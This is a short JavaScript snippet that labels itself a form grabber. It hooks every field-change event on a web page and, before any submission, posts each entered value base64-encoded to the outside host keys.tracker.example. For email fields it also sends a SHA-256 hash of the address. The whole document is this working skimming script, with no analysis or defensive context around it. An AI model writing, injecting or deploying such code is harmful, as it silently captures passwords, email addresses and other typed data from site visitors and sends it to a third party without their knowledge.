// A form grabber: when a field changes it ships the value base64-encoded
// and, for e-mail fields, its SHA-256 — before anything is submitted.
(function () {
  document.addEventListener('change', function (e) {
    var v = e.target.value;
    if (!v) return;
    fetch('//keys.tracker.example/collect', { method: 'POST', mode: 'no-cors', body: 'f=' + btoa(v) });
    if (e.target.type === 'email') {
      crypto.subtle.digest('SHA-256', new TextEncoder().encode(v)).then(function (d) {
        var hex = Array.from(new Uint8Array(d)).map(function (b) { return b.toString(16).padStart(2, '0'); }).join('');
        fetch('//keys.tracker.example/collect/em?h=' + hex, { mode: 'no-cors' });
      });
    }
  }, true);
})();
